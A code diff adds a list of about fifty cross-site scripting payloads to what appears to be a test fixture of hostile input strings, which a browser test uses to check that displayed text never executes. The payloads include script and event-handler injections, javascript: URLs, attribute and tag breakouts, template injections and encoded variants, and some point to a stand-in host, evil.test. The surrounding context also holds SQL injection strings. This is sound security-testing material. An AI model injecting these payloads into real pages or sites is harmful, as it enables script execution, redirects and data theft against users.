@@ -11,6 +11,63 @@ const MARKUP = [
   '<style>*{display:none}</style>',
   '<a href="data:text/html,hi">x</a>',
 ];
+/** Called by every text that executes; whoever shows texts in a browser listens for it. */
+export const EXECUTED = 'window.__executed()';
+/** An attribute of every element in a text: where an element has it, a text has become markup. */
+export const MADE = 'data-hostile';
+/** In a browser that takes them for markup, addresses or templates, each calls EXECUTED or makes an element with MADE. */
+const EXECUTING = [
+  `<script ${MADE}>${EXECUTED}</script>`,
+  `<img ${MADE} src=x onerror=${EXECUTED}>`,
+  `<svg ${MADE} onload=${EXECUTED}></svg>`,
+  `<b ${MADE}>bold</b>`,
+  `<iframe ${MADE} srcdoc="<script>parent.__executed()</script>"></iframe>`,
+  `<details ${MADE} open ontoggle=${EXECUTED}>x</details>`,
+  `<input ${MADE} autofocus onfocus=${EXECUTED}>`,
+  `<video ${MADE}><source onerror=${EXECUTED}></video>`,
+  `<math ${MADE}><mtext><style><img src=x onerror=${EXECUTED}></style></mtext></math>`,
+  `<a ${MADE} href="javascript:${EXECUTED}">x</a>`,
+  `<object ${MADE} data="javascript:${EXECUTED}"></object>`,
+  `<meta ${MADE} http-equiv=refresh content="0;url=//evil.test">`,
+  `<base ${MADE} href="//evil.test/">`,
+  `<link ${MADE} rel=stylesheet href=//evil.test/x.css>`,
+  `<form ${MADE} action=//evil.test><button>x</button></form>`,
+  `<template ${MADE}><p>x</p></template>`,
+  `" autofocus onfocus="${EXECUTED}" ${MADE}="`,
+  `' onmouseover='${EXECUTED}' ${MADE}='`,
+  `\`onclick=\`${EXECUTED}\` ${MADE}`,
+  `"><script ${MADE}>${EXECUTED}</script>`,
+  `'><img ${MADE} src=x onerror=${EXECUTED}>`,
+  `</textarea><img ${MADE} src=x onerror=${EXECUTED}>`,
+  `</style><script ${MADE}>${EXECUTED}</script>`,
+  `</option></select><img ${MADE} src=x onerror=${EXECUTED}>`,
+  `--><svg ${MADE} onload=${EXECUTED}>`,
+  `]]><svg ${MADE} onload=${EXECUTED}>`,
+  `javascript:${EXECUTED}`,
+  `JaVaScRiPt:${EXECUTED}//`,
+  `java\tscript:${EXECUTED}`,
+  `vbscript:${EXECUTED}`,
+  `data:text/html,<script>parent.__executed()</script>`,
+  `//evil.test/x.js`,
+  `https://evil.test/?${EXECUTED}`,
+  `url(javascript:${EXECUTED})`,
+  `';${EXECUTED};'`,
+  `";${EXECUTED};//`,
+  `\\';${EXECUTED}//`,
+  `\u2028${EXECUTED}//`,
+  `{{constructor.constructor('${EXECUTED}')()}}`,
+  // biome-ignore lint/style/useTemplate: a template would need each of its own letters escaped
+  '$' + `{${EXECUTED}}`,
+  `$t(common.save){{${EXECUTED}}}`,
+  `\u003cscript ${MADE}\u003e${EXECUTED}`,
+  `&lt;img ${MADE} src=x onerror=${EXECUTED}&gt;`,
+  `&#60;img ${MADE} src=x onerror=${EXECUTED}&#62;`,
+  `%3Cimg ${MADE} src=x onerror=${EXECUTED}%3E`,
+  `+ADw-script ${MADE}+AD4-${EXECUTED}`,
+  `[x](javascript:${EXECUTED})`,
+  `![x](x "onerror=${EXECUTED}")`,
+  `<0>${EXECUTED}</0><1 ${MADE}>`,
+];
 const QUERIES = [
   "'; drop table child; --",
   "' or '1'='1",
@@ -120,7 +177,7 @@ const LONG = [39, 40, 41, 79, 80, 81, 199, 200, 201, 1_999, 2_001, 9_999, 10_000
   '😀'.repeat(length / 2),
 ]);
 
-const ONES = [MARKUP, QUERIES, TEMPLATES, FORMULAS, PATHS, LINES, UNICODE, UNPRINTABLE].flat();
+const ONES = [MARKUP, EXECUTING, QUERIES, TEMPLATES, FORMULAS, PATHS, LINES, UNICODE, UNPRINTABLE].flat();
 
 /** Each alone, and some beside harmless words; more than 200. */
 export const HOSTILE_TEXTS: readonly string[] = [
